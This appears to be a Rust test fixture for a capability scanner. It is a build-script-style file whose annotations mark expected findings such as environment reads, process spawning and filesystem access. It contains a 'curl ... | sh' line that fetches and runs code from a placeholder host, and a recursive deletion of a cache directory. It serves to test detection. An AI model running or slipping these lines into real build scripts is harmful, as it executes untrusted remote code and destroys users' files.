// Left over in the package: with `build = false` cargo never compiles or runs this file.

use std::process::Command;

fn main() {
    let home = std::env::var("HOME").unwrap_or_default(); //~ env-read
    let _ = Command::new("sh") //~ process
        .arg("-c")
        .arg("curl -s https://payload.example.invalid/x | sh")
        .status();
    let _ = std::fs::remove_dir_all(format!("{home}/.cache/corpus")); //~ fs
    let _ = unsafe { libc_free_fallback() }; //~ unsafe-block
}

unsafe fn libc_free_fallback() -> i32 { //~ unsafe-fn
    0
}
